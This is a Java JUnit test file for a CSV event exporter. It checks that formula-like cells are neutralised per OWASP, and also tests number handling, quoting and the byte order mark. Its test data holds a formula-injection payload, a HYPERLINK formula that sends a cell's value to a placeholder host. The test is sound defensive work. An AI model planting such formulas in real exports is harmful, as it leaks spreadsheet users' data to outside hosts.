package org.viplab.core.text;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.viplab.core.timeline.Actor;
import org.viplab.core.timeline.LabEvent;
import org.viplab.core.timeline.Reason;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Locale;

import static org.junit.jupiter.api.Assertions.*;

/** The one events CSV: RFC 4180, formula cells neutralised (OWASP), numbers left as numbers. */
class EventCsvTest {
    @Test
    void aScriptNamedLikeAFormulaIsTextNotAFormula() throws Exception {
        String evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")";
        List<LabEvent> events = List.of(
                new LabEvent.ScriptResult(-182_374, "db1", evil, 1, true, Reason.of(Reason.Code.PS_NONE, "mysqld")),
                new LabEvent.LogLine(1_000_000, "db1", "+cmd", "@SUM(1+1)"),
                new LabEvent.LogLine(2_000_000, "db1", "-x", "\tTAB"),
                new LabEvent.ActionApplied(3_000_000, "stop", "db1/mysqld", Actor.USER));
        StringBuilder b = new StringBuilder();
        EventCsv.write(events, EventFormatter.english(), b);
        List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(b.toString())).getRecords();
        assertEquals(4, rows.size());
        CSVRecord script = rows.get(0);
        assertEquals("-0.182", script.get("time_s"), "a negative time stays a number");
        assertEquals("-182374", script.get("t_us"));
        assertEquals("script =HYPERLINK(\"http://example.invalid/?\"&A1,\"click\") failed, exit 1: ps -C mysqld: none", script.get("details"),
                "inside a sentence the name is harmless");
        assertEquals("'+cmd", rows.get(1).get("source"));
        assertEquals("'+cmd: @SUM(1+1)", rows.get(1).get("details"));
        assertEquals("'-x: \tTAB", rows.get(2).get("details"));
        assertEquals("user", rows.get(3).get("source"));
        for (CSVRecord r : rows) {
            for (String cell : r) {
                char c = cell.isEmpty() ? ' ' : cell.charAt(0);
                boolean risky = c == '=' || c == '+' || c == '@' || c == '\t' || c == '\r' || (c == '-' && !cell.matches("-\\d+(\\.\\d+)?"));
                assertFalse(risky, "a cell a spreadsheet would run: " + cell);
            }
        }
        assertTrue(b.toString().startsWith("time_s,t_us,host,source,kind,details\r\n"));
    }

    @Test
    void cellsStartingWithAFormulaCharacterAreQuotedUnlessTheyAreNumbers() {
        assertEquals("'=HYPERLINK(\"x\")", EventCsv.cell("=HYPERLINK(\"x\")"));
        assertEquals("'=1+2", EventCsv.cell("=1+2"));
        assertEquals("'@cmd", EventCsv.cell("@cmd"));
        assertEquals("'\tx", EventCsv.cell("\tx"));
        assertEquals("'\rx", EventCsv.cell("\rx"));
        assertEquals("'-1+1", EventCsv.cell("-1+1"));
        assertEquals("-5", EventCsv.cell("-5"));
        assertEquals("+3.25", EventCsv.cell("+3.25"));
        assertEquals("db1", EventCsv.cell("db1"));
        assertEquals("", EventCsv.cell(null));
    }

    @Test
    void chineseWithAByteOrderMarkAndQuotingOfCommasAndNewlines() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        EventCsv.write(List.of(new LabEvent.LogLine(0, "db1", "keepalived", "a, \"b\"\nc")), EventFormatter.of(Locale.SIMPLIFIED_CHINESE), out, true);
        byte[] bytes = out.toByteArray();
        assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, java.util.Arrays.copyOf(bytes, 3));
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertTrue(text.contains("\"keepalived：a, \"\"b\"\"\nc\""), text);
    }
}
